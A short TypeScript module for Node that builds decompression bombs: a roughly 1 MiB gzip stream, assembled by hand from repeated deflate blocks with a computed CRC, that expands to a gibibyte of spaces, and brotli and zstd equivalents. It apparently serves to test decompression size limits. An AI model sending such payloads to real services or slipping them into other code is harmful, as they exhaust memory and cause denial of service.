import { buffer } from 'node:stream/consumers';
import {
  constants,
  crc32,
  createBrotliCompress,
  createZstdCompress,
  deflateRawSync,
} from 'node:zlib';

const mebibyte = 1024 * 1024;
const blank = Buffer.alloc(mebibyte, ' ');

/** A gibibyte of spaces in a MiB of gzip, the best that format can do: one valid stream. */
export function gzipBomb(): Buffer {
  // A part that ends on a byte and refers to nothing before it can be repeated as it is.
  const part = deflateRawSync(blank, { finishFlush: constants.Z_FULL_FLUSH });
  const parts = Array.from({ length: 1_024 }, () => part);
  let checksum = 0;
  for (let i = 0; i < parts.length; i += 1) checksum = crc32(blank, checksum);
  const end = Buffer.alloc(8);
  end.writeUInt32LE(checksum, 0);
  end.writeUInt32LE(1_024 * mebibyte, 4);
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);
  return Buffer.concat([header, ...parts, deflateRawSync(''), end]);
}

/** The same gibibyte in a kilobyte of brotli. */
export function brotliBomb(): Promise<Buffer> {
  return bomb(createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 2 } }));
}

/** The same in 32 kB of zstd. */
export function zstdBomb(): Promise<Buffer> {
  return bomb(createZstdCompress());
}

async function bomb(compressor: NodeJS.ReadWriteStream): Promise<Buffer> {
  const compressed = buffer(compressor);
  for (let i = 0; i < 1_024; i += 1) {
    await new Promise((resolve) => compressor.write(blank, resolve));
  }
  compressor.end();
  return await compressed;
}
